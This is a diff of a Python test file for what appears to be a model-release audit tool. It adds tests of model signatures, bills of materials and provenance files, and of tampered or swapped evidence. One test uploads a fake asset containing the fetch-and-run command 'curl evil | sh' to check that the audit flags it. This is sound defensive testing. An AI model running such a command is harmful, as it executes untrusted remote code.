@@ -2,11 +2,16 @@
 
 import hashlib
 import json
+import tempfile
 from collections.abc import Iterator
 from pathlib import Path
+from typing import NamedTuple
 
+import model_signing
 import msgspec
 import pytest
+from cryptography.hazmat.primitives import serialization
+from cryptography.hazmat.primitives.asymmetric import ec
 
 from merganser import git
 from merganser.commands import audit
@@ -40,11 +45,12 @@ def broken(chains: tuple[Chain, ...]) -> dict[str, Link]:
 def test_an_honest_version_is_verified_link_by_link(ship: Shipped) -> None:
     chains = ship.audit()
     assert broken(chains) == {}
-    assert set(of_state(chains, State.unverifiable)) == {"ledger/as seen before"}
+    assert set(of_state(chains, State.unverifiable)) == {"ledger/as seen before", "evidence/model.sig"}
     assert {
         "tag/commit", "tag/on GitHub", "ledger/only added to", "ledger/record", "run/run.json", "run/inputs",
         "run/trained tree", "run/trained", "verdict/verdict.json", "verdict/passed", "release/published",
-        "release/model.json", "release/model file model.json", "people/merged",
+        "release/model.json", "release/model file model.json", "evidence/bom.cdx.json",
+        "evidence/provenance.intoto.json", "people/merged",
     } <= set(of_state(chains, State.verified))  # fmt: skip
     assert audit.exit_code(chains) == 0
     asset = next(one for one in ship.release()["assets"] if one["name"] == "model.json")
@@ -124,9 +130,9 @@ def test_an_edited_verdict(ship: Shipped) -> None:
 
 
 def test_a_lost_and_a_new_asset(ship: Shipped) -> None:
-    ship.delete("predictions.csv")
+    ship.delete("model-card.md")
     ship.upload("setup.sh", b"curl evil | sh")
-    assert set(broken(ship.audit())) == {"release/predictions.csv", "release/setup.sh"}
+    assert set(broken(ship.audit())) == {"release/model-card.md", "release/setup.sh"}
 
 
 def test_a_release_that_was_deleted(ship: Shipped) -> None:
@@ -148,9 +154,9 @@ def test_a_tag_that_was_made_again_without_its_evidence(ship: Shipped) -> None:
     """It names no record any more; the record of its new commit is not what the release holds."""
     ship.git("tag", "--force", "--annotate", "-m", "Registering artifact tiny version v0.1.0", TAG, "HEAD~1")
     ship.git("push", "--quiet", "--force", "origin", f"refs/tags/{TAG}")
-    assert set(broken(ship.audit())) == {
-        "run/run.json", "verdict/verdict.json", "release/model file model.json", "release/evaluated predictions.csv"
-    }  # fmt: skip
+    found = set(broken(ship.audit()))
+    assert {"run/run.json", "verdict/verdict.json", "release/model file model.json"} <= found
+    assert {name for name in found if name.startswith(("tag", "ledger", "people"))} == set()
 
 
 def test_a_tag_that_was_deleted_on_github(ship: Shipped) -> None:
@@ -235,3 +241,81 @@ def test_a_deployment_that_nobody_reviewed(ship: Shipped) -> None:
     for fields in ({}, {"environments": ship.environments}):
         found = broken(ship.audit(None, env="staging", **fields))
         assert set(found) == {"environment staging/model", "environment staging/deployed by"}
+
+
+# Signatures, made by the library itself over the bytes that the release serves
+
+
+class Pair(NamedTuple):
+    """The files of a private and of its public key."""
+
+    private: Path
+    public: Path
+
+
+def key_pair(folder: Path, name: str) -> Pair:
+    key = ec.generate_private_key(ec.SECP256R1())
+    pair = Pair(folder / f"{name}.key", folder / f"{name}.pub")
+    pem = serialization.Encoding.PEM
+    nothing = serialization.NoEncryption()
+    pair.private.write_bytes(key.private_bytes(pem, serialization.PrivateFormat.PKCS8, nothing))
+    public = key.public_key().public_bytes(pem, serialization.PublicFormat.SubjectPublicKeyInfo)
+    pair.public.write_bytes(public)
+    return pair
+
+
+def signature(ship: Shipped, key: Pair, **files: bytes) -> bytes:
+    """`model.sig` over the release's model, or over other files."""
+    folder = Path(tempfile.mkdtemp(dir=ship.folder))
+    for name, content in (files or {"model.json": ship.asset("model.json")}).items():
+        (folder / name).write_bytes(content)
+    out = ship.folder / f"{folder.name}.sig"
+    model_signing.signing.Config().use_elliptic_key_signer(private_key=key.private).sign(folder, out)
+    return out.read_bytes()
+
+
+def test_a_signature_is_verified_by_a_key_or_told_as_unverified(ship: Shipped) -> None:
+    ours, other = key_pair(ship.folder, "ours"), key_pair(ship.folder, "other")
+    ship.upload("model.sig", signature(ship, ours))
+    signed = ship.audit(key=ours.public)
+    assert broken(signed) == {}
+    assert {"evidence/model.sig", "evidence/model.sig is over"} <= set(of_state(signed, State.verified))
+    keyless = of_state(ship.audit(), State.unverifiable)["evidence/model.sig"]
+    assert "--key" in keyless.says
+    assert set(broken(ship.audit(key=other.public))) == {"evidence/model.sig"}
+    with pytest.raises(ConfigError, match="is no public key"):
+        ship.audit(key=ours.private)
+    with pytest.raises(ConfigError, match="two ways to sign"):
+        ship.audit(key=ours.public, identity="https://github.com/acme/tiny/.github/workflows/a.yml@refs/heads/main")
+
+
+def test_a_swapped_signature(ship: Shipped) -> None:
+    """By somebody else's key; and of ours, but over another model."""
+    ours, eve = key_pair(ship.folder, "ours"), key_pair(ship.folder, "eve")
+    ship.upload("model.sig", signature(ship, eve))
+    assert set(broken(ship.audit(key=ours.public))) == {"evidence/model.sig"}
+    ship.replace("model.sig", signature(ship, ours, **{"model.json": b"an older model"}))
+    assert set(broken(ship.audit(key=ours.public))) == {"evidence/model.sig", "evidence/model.sig is over"}
+    assert set(broken(ship.audit())) == {"evidence/model.sig is over"}, "also without a key"
+
+
+def test_a_signature_over_more_or_less_than_the_model(ship: Shipped) -> None:
+    ours = key_pair(ship.folder, "ours")
+    ship.upload("model.sig", signature(ship, ours, **{"run.json": ship.asset("run.json")}))
+    assert set(broken(ship.audit(key=ours.public))) == {"evidence/model.sig is over"}
+    ship.replace("model.sig", b"{}")
+    assert set(broken(ship.audit(key=ours.public))) == {"evidence/model.sig", "evidence/model.sig is over"}
+
+
+def test_an_edited_bill_and_provenance(ship: Shipped) -> None:
+    """With sums to match: the run tells."""
+    digest = hashlib.sha256(ship.asset("model.json")).hexdigest().encode()
+    sums = ship.asset("SHA256SUMS")
+    for name in ("bom.cdx.json", "provenance.intoto.json"):
+        content = ship.asset(name)
+        edited = content.replace(digest, b"0" * 64)
+        assert edited != content
+        ship.replace(name, edited)
+        sums = sums.replace(*(hashlib.sha256(data).hexdigest().encode() for data in (content, edited)))
+    ship.replace("SHA256SUMS", sums)
+    assert set(broken(ship.audit())) == {"evidence/bom.cdx.json", "evidence/provenance.intoto.json"}
